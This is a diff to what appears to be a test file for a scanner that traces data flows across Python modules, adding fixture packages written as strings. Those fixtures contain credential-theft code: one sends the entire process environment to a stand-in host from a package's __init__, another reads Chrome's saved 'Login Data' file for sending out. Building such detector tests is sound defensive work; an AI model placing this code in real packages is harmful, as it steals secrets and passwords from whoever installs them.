@@ -69,6 +69,23 @@ CROSSING = {
         ),
         "demo/grab.py": BROWSER,
     },
+    "environment handed here to another module's sender, with the address": {
+        "demo/__init__.py": (
+            "import os\nfrom .send import ship\n"
+            "ship('https://collect.example.net/u', dict(os.environ))\n"
+        ),
+        "demo/send.py": "import requests\ndef ship(url, data):\n    requests.post(url, data=data)\n",
+    },
+    "a method of another module's class": {
+        "demo/__init__.py": "from .grab import Grabber\nfrom .send import ship\nship(Grabber().collect())\n",
+        "demo/grab.py": (
+            "import os\nclass Grabber:\n    def collect(self):\n"
+            "        p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome',\n"
+            "                         'User Data', 'Default', 'Login Data')\n"
+            "        return open(p, 'rb').read()\n"
+        ),
+        "demo/send.py": SEND,
+    },
     "two modules deep": {
         "demo/__init__.py": "from .core import payload\nfrom .run import go\ngo(payload())\n",
         "demo/core.py": "from .fetch import get\ndef payload():\n    return get()\n",
